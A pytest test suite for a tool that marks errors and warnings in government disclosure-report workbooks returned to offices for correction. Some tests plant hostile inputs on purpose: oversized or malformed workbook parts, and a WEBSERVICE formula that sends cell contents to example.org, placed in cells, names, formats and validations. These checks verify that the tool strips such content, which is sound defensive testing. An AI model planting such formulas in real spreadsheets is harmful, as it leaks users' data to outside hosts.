"""The office's own workbook comes back with the cells marked: what is marked, what stays, and how it is read."""

import datetime
import re
import shutil
import zipfile
from io import BytesIO

import openpyxl
import pytest
from docx import Document
from openpyxl.comments import Comment
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from disclosure_batch.documents import guard
from disclosure_batch.documents.confined import Apart
from disclosure_batch.outputs.notices import marking
from disclosure_batch.outputs.notices.marked import RESTORED, TO_MEND, TO_VERIFY
from disclosure_batch.papers import TO_MEND_HEAD, TO_MEND_SHEET
from disclosure_batch.sheets.styles import ORANGE, RED
from tests import hostile as h
from tests.district import District, cell_of
from tests.filled import opened
from tests.run import Run

GRANTED = "requests.granted.natural_person"
ISSUED = "proactive.normative_documents.issued"
COPY = f"410801_示例区财政局{TO_MEND}"
SECTION_2, SECTION_3, COVER = "二、主动公开", "三、依申请公开", "封面"


@pytest.fixture
def district(tmp_path) -> District:
    return at_odds(District(tmp_path))


def at_odds(district: District) -> District:
    """One office with an error in section three and a warning in section two."""
    district.office("410801").values |= {GRANTED: 8, ISSUED: 60}
    return district


@pytest.fixture(scope="module")
def first(tmp_path_factory) -> Run:
    """The run in which it is sent back."""
    return at_odds(District(tmp_path_factory.mktemp("first"))).merge()


def copy_of(run) -> openpyxl.Workbook:
    return openpyxl.load_workbook(run.product("退改通知") / COPY)


def colour(cell) -> str:
    """The first mark of a cell; it shows until the cell is changed."""
    marks = sorted(marks_of(cell), key=lambda rule: rule.priority)
    return f"#{marks[0].dxf.fill.bgColor.rgb[-6:]}" if marks else ""


def marks_of(cell) -> list:
    areas = cell.parent.conditional_formatting
    return [r for area in areas if str(area.sqref) == cell.coordinate for r in area.rules if "【" in r.formula[0]]


def tab(book: openpyxl.Workbook, sheet: str) -> str | None:
    there = book[sheet].sheet_properties.tabColor
    return f"#{there.rgb[-6:]}" if there else None


def test_errors_are_red_and_warnings_orange_and_each_cell_says_what_is_wrong(first):
    book = copy_of(first)
    error, warning = book[SECTION_3]["D7"], book[SECTION_2]["D7"]
    assert (colour(error), colour(warning)) == (RED, ORANGE)
    assert error.comment.text == f"【需修改】{first.finding('R303').message}"
    wrong, _, reasons = first.finding("R101").message.partition("属于正常的，")
    assert reasons and warning.comment.text.startswith(f"【请核实】{wrong}\n确认无误的")
    assert (tab(book, SECTION_3), tab(book, SECTION_2), tab(book, COVER)) == (RED, ORANGE, None)
    pages = {page.title: [c for row in page.iter_rows() for c in row if c.comment] for page in book.worksheets}
    assert {sheet: [cell.coordinate for cell in cells] for sheet, cells in pages.items() if cells} == {
        SECTION_2: ["D7"],
        SECTION_3: ["D7", "D8", "D9", "D19", "D31"],  # where the slip may be: what is 0 and no term of its own is none
    }


# ---------------------------------------------------------------- it can be mended as told


def test_the_first_sheet_lists_what_has_to_be_mended_with_links(first):
    book = copy_of(first)
    page = book.worksheets[0]
    assert (page.title, book.active.title, page["A1"].value) == (TO_MEND_SHEET, TO_MEND_SHEET, TO_MEND_HEAD)
    assert page["A2"].value == "要改的 1 处，请核实的 1 处"
    rows = [[cell.value for cell in row] for row in page.iter_rows(min_row=5, max_row=6)]
    assert [row[:2] for row in rows] == [["1", "D7"], ["2", "D7"]]
    wrong = first.finding("R303").message.removeprefix(f"“{SECTION_3}”")
    assert rows[0][2] == f"“{SECTION_3}”\n自然人列\nD7至D9、D19、D31" and rows[0][4].startswith(wrong)
    links = [row[1].hyperlink.location for row in page.iter_rows(min_row=5, max_row=6)]
    assert links == [f"'{SECTION_3}'!D7", f"'{SECTION_2}'!D7"]
    cells = [cell for row in page.iter_rows(min_row=5, max_row=6) for cell in row]
    assert page.protection.sheet and all(cell.data_type == "s" for cell in cells)
    assert "改过的格、写明了原因的格，颜色自己消失" in page["A8"].value and page.max_row == 8


def test_the_list_is_no_part_of_what_is_reported_and_is_written_anew(district, first):
    """It lies in what comes back, and is neither read nor left there at the next round."""
    district.receive()
    book = copy_of(first)
    cell_of(book, ISSUED).value = 2
    cell_of(book, "unit.date").value = "2025-01-15"
    book.save(district.received / COPY)
    run = district.merge(receive=False)
    assert run.rules("410801") - {"V008"} == {"R303", "F009"} and run.states()["410801"] == "rejected"
    page = copy_of(run).worksheets[0]
    assert page["A2"].value == "要改的 1 处" and page.max_row == 7
    assert copy_of(run).sheetnames.count(TO_MEND_SHEET) == 1


def test_a_sheet_of_the_same_name_that_an_office_made_stays_and_is_read(district):
    def add(book):
        book.create_sheet(TO_MEND_SHEET)["A1"] = "本科室的备忘"

    district.office("410801").edit(add)
    assert copy_of(district.merge())[TO_MEND_SHEET]["A1"].value == "本科室的备忘"


@pytest.mark.parametrize("number_format", ['m"月"d"日"', "yyyy-mm-dd", "m/d/yyyy"])
def test_a_cell_that_took_a_number_for_a_date_takes_numbers_again(district, number_format):
    """What stood there stays as it was read, as a text; the figure that is typed over it is shown as one."""

    def type_a_day(book):
        cell = cell_of(book, GRANTED)
        cell.value, cell.number_format = datetime.datetime(2025, 3, 5), number_format

    district.office("410801").edit(type_a_day)
    run = district.merge()
    cell = copy_of(run)[SECTION_3]["D9"]
    assert (cell.value, cell.number_format, cell.protection.locked) == ("2025-03-05", "General", False)
    assert run.finding("V004").value == "2025-03-05"
    shutil.copy(run.product("退改通知") / COPY, district.received / COPY)
    assert district.merge(receive=False).rules("410801", "error") == {"V004"}  # as it went out it is the same


def test_a_total_that_was_typed_over_has_its_formula_back_and_it_is_said(district):
    total, right = "requests.granted.total", "requests.new.total"
    district.office("410801").fill(GRANTED, 5).type(total, 16).type(right, 10)
    run = district.merge()
    page, listed = copy_of(run)[SECTION_3], copy_of(run).worksheets[0]
    assert (page["J9"].value, page["J7"].value) == ("=SUM(D9:I9)", "=SUM(D7:I7)")
    assert page["J9"].protection.locked and page["J9"].comment.text.endswith(RESTORED)
    rows = [[cell.value for cell in row] for row in listed.iter_rows(min_row=5)]
    assert rows[0][1] == "J9" and rows[0][3] == "16" and rows[0][4].endswith(RESTORED)
    assert [row[0] for row in rows[2:] if row[0]][1:] == [
        f"另有 1 格总计原来是手填的，已恢复公式，随各格自动计算，不用改：“{SECTION_3}”J7。"
    ]


def test_the_marks_of_a_finding_show_until_one_of_its_cells_is_changed_and_are_not_printed(district):
    """Of two figures that may have been exchanged; the others of these columns are not red."""
    values = district.office("410801").values
    values[GRANTED], values[ISSUED] = 5, 2
    for column, more in (("natural_person", 13), ("enterprise", 4)):
        for row in ("new", "granted"):
            values[f"requests.{row}.{column}"] += more
    one, other = GRANTED, "requests.granted.enterprise"
    values[one], values[other] = values[other], values[one]
    page = copy_of(district.merge())[SECTION_3]
    cells = [cell for row in page.iter_rows() for cell in row if marks_of(cell)]
    marks = {cell.coordinate: marks_of(cell)[0].formula[0] for cell in cells}
    both = [f"AND(ISNUMBER($D$9),$D$9={values[one]})", f"AND(ISNUMBER($E$9),$E$9={values[other]})"]
    assert list(marks) == ["D9", "E9"] and all(each in formula for formula in marks.values() for each in both)
    assert page.page_setup.blackAndWhite


def test_a_reason_takes_the_marks_off_as_well(district, libreoffice):
    """So that what is printed and stamped shows no colour but of what is still open, in whatever program."""
    district.office("410801").fill(GRANTED, 5).fill(ISSUED, 60)
    book = opened(district.merge().product("退改通知") / f"410801_示例区财政局{TO_VERIFY}")
    page = book[SECTION_2]
    page["AZ1"] = f"={marks_of(page['D7'])[0].formula[0]}"  # what a condition gives can't be read back
    for reason in (None, "12月制发，次年施行"):
        cell_of(book, "explanation.R101").value = reason
        book.save(district.folder / "copy.xlsx")
        shown = libreoffice(district.folder / "copy.xlsx", "xlsx", district.folder / "as-shown")
        assert openpyxl.load_workbook(shown, data_only=True)[SECTION_2]["AZ1"].value is (reason is None)


def test_the_total_of_a_table_that_is_no_template_stays_as_it_is(district):
    """Its rows may be others."""

    def by_hand(book):
        del book["_meta"]
        book[SECTION_3].insert_rows(9)
        cell_of(book, "unit.name").value = "示例区财政局"

    district.office("410801").type("requests.granted.total", 16).edit(by_hand)
    page = copy_of(district.merge())[SECTION_3]
    assert not [cell for row in page.iter_rows() for cell in row if cell.comment and RESTORED in cell.comment.text]


def test_each_of_several_cells_that_a_finding_speaks_of_is_marked(district):
    """Whoever mends what is red has mended all of it."""
    for name in ("issued", "in_force"):
        district.office("410801").fill(f"proactive.regulations.{name}", 2)
    page = copy_of(district.merge())[SECTION_2]
    assert all(colour(page[cell]) == RED and "规章" in page[cell].comment.text for cell in ("B6", "D6"))
    assert page["C6"].comment is None


def test_a_locked_cell_that_has_to_be_changed_is_unlocked(district):
    """As name, code and year of a handed out workbook are; somebody has typed over it all the same."""
    data = district.office("410801").write(district.folder / "一.xlsx").read_bytes()
    own = openpyxl.load_workbook(BytesIO(data))[COVER]
    assert own["B6"].protection.locked
    copy = marking.marked(data, marking.Orders([marking.CellMark(COVER, "B6", marking.NEEDS_MENDING, "请改。")]))
    page = openpyxl.load_workbook(BytesIO(copy))[COVER]
    assert (page["B6"].protection.locked, page["B7"].protection.locked) == (False, True)


def test_the_rest_of_the_workbook_is_as_it_was(district):
    """Figures, formulas, what may be typed, protection, names, hidden stamp; the file handed in stays untouched."""
    district.receive()
    handed_in = district.received / "410801_示例区财政局.xlsx"
    before = handed_in.read_bytes()
    book, own = copy_of(district.merge(receive=False)), openpyxl.load_workbook(handed_in)
    assert handed_in.read_bytes() == before
    assert list(book.defined_names) == list(own.defined_names) and book.sheetnames == [TO_MEND_SHEET, *own.sheetnames]
    for page in own.worksheets:
        copy = book[page.title]
        assert [[_content(c) for c in row] for row in copy.iter_rows()] == [
            [_content(c) for c in row] for row in page.iter_rows()
        ]
        assert copy.protection.sheet == page.protection.sheet and copy.sheet_state == page.sheet_state
        assert len(copy.data_validations.dataValidation) == len(page.data_validations.dataValidation)
        assert conditions(copy) == conditions(page)


def conditions(page) -> set[str]:
    """But for the marks."""
    return {r.formula[0] for area in page.conditional_formatting for r in area.rules if "【" not in r.formula[0]}


def _content(cell):
    content = getattr(cell.value, "text", cell.value)  # openpyxl keeps an array formula as an object
    return None if content == "" else content


def test_a_mended_copy_is_read_like_any_other_and_takes_the_place_of_the_first(district, first):
    district.receive()
    book = copy_of(first)
    cell_of(book, GRANTED).value = 5
    cell_of(book, ISSUED).value = 2
    cell_of(book, "unit.date").value = "2025-01-15"
    book.save(district.received / COPY)
    run = district.merge(receive=False)
    assert run.exit_code == 0 and run.states()["410801"] == "accepted"
    assert run.file_states()["收件/410801_示例区财政局.xlsx"] == "superseded"
    assert run.totals[GRANTED] == district.sums()[GRANTED] - 3
    superseded = run.finding("F009")
    assert superseded.severity == "warning" and "予以公开·自然人" in superseded.message
    assert not run.product("退改通知").exists()


def test_a_copy_that_comes_back_as_it_went_out_is_the_same_submission(district, first):
    district.receive()
    shutil.copy(first.product("退改通知") / COPY, district.received / COPY)
    again = district.merge(receive=False)
    assert again.rules("410801", "error") == {"R303"} and again.totals == first.totals
    assert sorted(again.file_states().values()).count("superseded") == 1


def test_the_marks_of_an_earlier_round_are_taken_off(district, first):
    """The warning is mended, the error is not: only the error is marked in the next copy."""
    district.receive()
    book = copy_of(first)
    cell_of(book, ISSUED).value = 2
    cell_of(book, GRANTED).comment = Comment("登记簿待查", "经办")
    cell_of(book, "unit.date").value = "2025-01-15"
    book.save(district.received / f"410801{TO_MEND}")
    book = copy_of(district.merge(receive=False))
    mended = book[SECTION_2]["D7"]
    assert mended.comment is None and colour(mended) != ORANGE and tab(book, SECTION_2) is None
    assert colour(book[SECTION_3]["D7"]) == RED and book[SECTION_3]["D7"].comment.text.count("【需修改】") == 1
    assert book[SECTION_3]["D9"].comment.text.endswith("【原有批注】登记簿待查")


def test_what_somebody_wrote_at_the_cell_stays(district):
    def write(book):
        book[SECTION_3]["D7"].comment = Comment("已与科室核对", "经办")
        book[SECTION_3]["D7"].fill = PatternFill("solid", fgColor="00FF00")

    district.office("410801").edit(write)
    cell = copy_of(district.merge())[SECTION_3]["D7"]
    assert cell.comment.text.startswith("【需修改】") and cell.comment.text.endswith("已与科室核对")


def test_the_last_outputs_among_the_submissions_are_not_read(district):
    """merge . in the folder in which the outputs lie."""
    district.merge(whole=True)
    run = district.merge(paths=(district.folder,), receive=False)
    states = {path: state for path, state in run.file_states().items() if TO_MEND in path}
    assert list(states.values()) == ["ignored"]


def test_the_notice_says_which_workbook_goes_with_it(first):
    words = [p.text for p in Document(first.product("退改通知") / "410801_示例区财政局.docx").paragraphs]
    assert any(COPY in line for line in words)


BOUNDLESS = {  # one is a slip of the hand, the others mean no good
    "a whole column merged": h.after_data(b'<mergeCells count="1"><mergeCell ref="M3:M1048576"/></mergeCells>'),
    "20 MB": h.after_data(b"<!--" + b"x" * 20_000_000 + b"-->"),
    "a link over all cells": h.after_data(h.LINK_OVER_ALL),
}


@pytest.mark.parametrize("what", BOUNDLESS)
def test_a_workbook_out_of_all_bounds_is_filled_into_the_official_one(district, monkeypatch, what):
    """It was read, within limits; so that its office gets something to mend all the same."""
    monkeypatch.setattr(guard, "SECONDS", 5)
    district.receive()
    path = district.received / "410801_示例区财政局.xlsx"
    path.write_bytes(h.change(path.read_bytes(), h.part_of(path.read_bytes(), "二、主动公开"), BOUNDLESS[what]))
    run = district.merge(receive=False)
    assert run.totals["requests.new.natural_person"] == district.sums("410801")["requests.new.natural_person"]
    page = copy_of(run)[SECTION_3]
    assert page["D9"].value == 8 and "【需修改】" in page["D7"].comment.text and len(page.merged_cells.ranges) < 100
    words = [p.text for p in Document(run.product("退改通知") / "410801_示例区财政局.docx").paragraphs]
    assert any("读到的内容已填进随附的" in line for line in words)


def test_a_part_that_is_many_sheets_is_one_sheet_in_the_copy(district):
    district.receive()
    path = district.received / "410801_示例区财政局.xlsx"
    path.write_bytes(h.one_part_named(200, path.read_bytes()))
    assert len(copy_of(district.merge(receive=False)).sheetnames) < 20


def test_where_a_copy_can_not_be_made_the_notice_says_so(district, monkeypatch):
    monkeypatch.setattr(Apart, "call", lambda *arguments, **named: None)
    run = district.merge()
    assert [path.suffix for path in sorted(run.product("退改通知").iterdir())] == [".docx", ".txt", ".txt"]
    words = [p.text for p in Document(run.product("退改通知") / "410801_示例区财政局.docx").paragraphs]
    assert any("请对照下面的问题，在原来的表上改。" in line for line in words)


def test_a_corrected_figure_is_marked_for_the_office_too(district):
    """The unit still has an error elsewhere; what was corrected for it is said in its copy and in its notice."""
    district.office("410801").fill("requests.granted_in_part.enterprise", 9)
    path = district.folder / "决定.xlsx"
    district.merge("--decisions", path)
    book = openpyxl.load_workbook(path)
    heads = {cell.value: cell.column for cell in book.active[3]}
    (row,) = [
        r
        for r in range(4, book.active.max_row + 1)
        if str(book.active.cell(r, 1).value).endswith("R303/requests.new.natural_person")
    ]
    for head, value in {"决定": "更正", "更正单元格": "D9", "更正值": 5, "理由": "登记簿为 5 件"}.items():
        book.active.cell(row, heads[head]).value = value
    book.save(path)
    run = district.merge("--decisions", path)
    cell = copy_of(run)[SECTION_3]["D9"]
    assert cell.value == 8 and colour(cell) == ORANGE
    assert cell.comment.text.startswith("【已更正】更正：") and "由 8 改为 5" in cell.comment.text
    notice = Document(run.product("退改通知") / "410801_示例区财政局.docx")
    assert "由 8 改为 5" in notice.tables[-1].rows[1].cells[3].text


@pytest.mark.parametrize("format", ["xls", "ods"])
def test_what_can_not_be_marked_is_filled_into_the_official_workbook(district, libreoffice, format):
    """The office gets something to mend and to send back, whatever it has filled in; nothing that was read is lost."""
    office = district.office("410801").fill(ISSUED, 2)
    office.fill("text.problems", "公开不够及时。").type("requests.new.enterprise", "约3")
    district.receive()
    own = district.received / "410801_示例区财政局.xlsx"
    shutil.move(libreoffice(own, format), district.received / f"410801_示例区财政局.{format}")
    own.unlink()
    run = district.merge(receive=False)

    page = copy_of(run)[SECTION_3]
    assert page["D9"].value == 8 and "【需修改】" in page["D7"].comment.text
    assert page["E7"].value == "约3" and "【需修改】" in page["E7"].comment.text
    words = [p.text for p in Document(run.product("退改通知") / "410801_示例区财政局.docx").paragraphs]
    assert any("读到的内容已填进随附的" in line for line in words)

    book = copy_of(run)
    cell_of(book, GRANTED).value, cell_of(book, "requests.new.enterprise").value = 5, 3
    cell_of(book, "unit.date").value = "2025-01-20"
    book.save(district.received / "改好.xlsx")
    again = district.merge(receive=False)
    assert again.exit_code == 0 and again.states()["410801"] == "accepted"
    assert again.totals[GRANTED] == district.sums()[GRANTED] - 3
    assert again.totals["requests.new.enterprise"] == district.sums()["requests.new.enterprise"]
    assert "公开不够及时。" in (again.product("章节") / "5-存在的主要问题及改进情况.txt").read_text(encoding="utf-8")


def test_nothing_in_a_copy_reaches_outward(district):
    """Cells, names, validations, conditional formats, links: what the template has of them stays."""
    call = 'WEBSERVICE("http://example.org/"&A1)'

    def plant(book: openpyxl.Workbook) -> None:
        page = book[SECTION_3]
        page["Z1"] = f"={call}"
        book.defined_names["偷看"] = DefinedName("偷看", attr_text=call)
        page.conditional_formatting.add("D7", FormulaRule(formula=[f"{call}=1"]))
        page.add_data_validation(DataValidation(type="custom", formula1=f"={call}", sqref="Z2"))
        page["Z3"].hyperlink = "http://example.org/"

    district.office("410801").edit(plant)
    district.receive()
    handed_in = openpyxl.load_workbook(district.received / "410801_示例区财政局.xlsx")
    run = district.merge(receive=False)
    with zipfile.ZipFile(run.product("退改通知") / COPY) as archive:
        parts = {
            name: archive.read(name).decode("utf-8", "replace")
            for name in archive.namelist()
            if name.endswith((".xml", ".rels"))
        }
    assert not [
        name for name, text in parts.items() if "example.org" in re.sub("<t[ >][^<]*</t>", "", text)
    ]  # but as a text

    book = copy_of(run)
    assert book[SECTION_3]["Z1"].data_type == "s" and set(handed_in.defined_names) - set(book.defined_names) == {"偷看"}
    for sheet in (SECTION_2, SECTION_3):
        rules = [r for area in book[sheet].conditional_formatting for r in area.rules if "【" not in r.formula[0]]
        own = [rule for area in handed_in[sheet].conditional_formatting for rule in area.rules]
        assert len(rules) == len(own) - (sheet == SECTION_3) > 0
        checks = [len(b[sheet].data_validations.dataValidation) for b in (book, handed_in)]
        assert checks[0] == checks[1] - (sheet == SECTION_3) > 0
